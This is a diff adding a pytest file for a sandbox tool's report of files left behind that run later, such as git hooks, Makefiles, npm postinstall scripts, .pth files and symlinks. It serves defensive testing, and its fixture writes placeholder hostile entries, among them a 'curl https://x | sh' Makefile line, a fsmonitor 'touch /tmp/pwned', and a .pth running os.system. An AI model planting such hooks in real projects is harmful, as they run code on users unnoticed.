@@ -1,0 +1,124 @@
+"""What a run left in its write folders that runs or is trusted later
+(lnk-sandbox(1), WHAT A RUN LEFT; src/changes/flags.c is the table): each
+flagged entry is named with what will run it on stderr, after the
+program's output, and in `lnk sandbox changes --json`; a run that changed
+nothing says nothing; ordinary changes are one line; lnk's exit status
+stays the program's."""
+import json
+
+from conftest import IS_ROOT  # noqa: F401  (both users run this file)
+
+
+LEFT_BEHIND = r"""
+set -e
+mkdir -p sub/.git
+printf 'ref: refs/heads/main\n' > sub/.git/HEAD
+printf '[core]\n\tfsmonitor = sh -c "touch /tmp/pwned"\n' > sub/.git/config
+printf 'all:\n\tcurl https://x | sh\n' >> Makefile
+printf '{"name":"app","scripts":{"postinstall":"sh evil.sh"}}\n' > package.json
+echo 'module.exports = []' > eslint.config.js
+echo 'import os' > readline.py
+mkdir -p .venv/lib/python3.11/site-packages
+echo 'import os; os.system("id")' > .venv/lib/python3.11/site-packages/x.pth
+ln -s /etc etc-link
+echo program-output
+exit 3
+"""
+
+FLAGGED = {
+    "sub/.git": "repository",
+    "sub/.git/config": "core.fsmonitor",
+    "Makefile": "make",
+    "package.json": "postinstall",
+    "eslint.config.js": "configuration file that is a program",
+    "readline.py": "shadows Python's readline",
+    ".venv/lib/python3.11/site-packages/x.pth": ".pth file",
+    "etc-link": "/etc",
+}
+
+
+def sh(lnk, script, *grants, **kw):
+    return lnk.run(*grants, "--", "/bin/sh", "-c", script, **kw)
+
+
+def stderr_lines(cp):
+    return [line for line in cp.stderr.splitlines() if line.strip()]
+
+
+def test_what_runs_later_is_flagged_with_its_reason(lnk, work):
+    (work / "Makefile").write_text("all:\n\ttrue\n")
+    (work / "package.json").write_text('{"name":"app"}\n')
+    cp = sh(lnk, LEFT_BEHIND, "--write", work, "--name", "left")
+    # the program's status, not the report's
+    assert cp.returncode == 3, cp.stderr
+    assert "program-output" in cp.stdout
+    lines = stderr_lines(cp)
+    for path, why in FLAGGED.items():
+        hit = [ln for ln in lines if f"project/{path}: " in ln]
+        assert hit, f"{path} not flagged:\n{cp.stderr}"
+        assert why in hit[0], hit[0]
+    assert "to review" in lines[0]
+
+    cp = lnk("sandbox", "changes", "left", "--json")
+    assert cp.returncode == 0, cp.stderr
+    reports = [json.loads(x) for x in cp.stdout.splitlines()]
+    assert len(reports) == 1 and reports[0]["sandbox"] == "left"
+    flags = {f["path"]: f["reason"]
+             for f in reports[0]["folders"][0]["flags"]}
+    for path, why in FLAGGED.items():
+        assert path in flags, f"{path} not in {flags}"
+        assert why in flags[path]
+
+    cp = lnk("sandbox", "changes")
+    assert cp.returncode == 0
+    assert "left, ended" in cp.stdout
+    assert "core.fsmonitor" in cp.stdout
+
+
+def test_run_that_changed_nothing_says_nothing(lnk, work):
+    (work / "Makefile").write_text("all:\n\ttrue\n")
+    (work / "readline.py").write_text("x = 1\n")
+    cp = sh(lnk, "cat Makefile readline.py >/dev/null; echo ok",
+            "--write", work, "--name", "quiet")
+    assert cp.returncode == 0
+    assert cp.stdout.strip() == "ok"
+    assert "changed" not in cp.stderr
+    assert "lnk:" not in cp.stderr, cp.stderr
+    cp = lnk("sandbox", "changes", "quiet")
+    assert "no report" in cp.stdout
+
+
+def test_ordinary_changes_are_one_line(lnk, work):
+    script = ("mkdir -p data node_modules/p && i=0; "
+              "while [ $i -lt 10000 ]; do : > data/f$i; i=$((i+1)); done; "
+              "for j in 1 2 3; do : > node_modules/p/m$j; done")
+    cp = sh(lnk, script, "--write", work, timeout=300)
+    assert cp.returncode == 0, cp.stderr
+    lines = stderr_lines(cp)
+    assert len(lines) == 1, cp.stderr
+    assert "changed 10,003 files in ~/project (3 in node_modules)" \
+        in lines[0], lines[0]
+
+
+def test_names_the_program_chose_are_escaped(lnk, work):
+    cp = sh(lnk, "mkdir -p \"$(printf 'a\\033[2Jb')/.git\" && "
+            "printf '[alias]\\n\\tx = !sh\\n' > \"$(printf 'a\\033[2Jb')"
+            "/.git/config\"", "--write", work)
+    assert cp.returncode == 0, cp.stderr
+    assert "\x1b" not in cp.stderr
+    assert "a\\x1b[2Jb/.git/config: alias.x runs a shell command" \
+        in cp.stderr, cp.stderr
+
+
+def test_links_are_not_followed(lnk, work, home):
+    other = home / "other"
+    other.mkdir()
+    # the program writes a Makefile in a second write folder and links
+    # to it from the first: each folder's walk reports its own, and the
+    # link is never followed
+    cp = sh(lnk, f"ln -s {other} out && echo x > {other}/Makefile",
+            "--write", work, "--write", other)
+    assert cp.returncode == 0, cp.stderr
+    assert "project/out: a link out of the write folder" in cp.stderr
+    assert "~/other/Makefile: a build file" in cp.stderr
+    assert "out/Makefile" not in cp.stderr
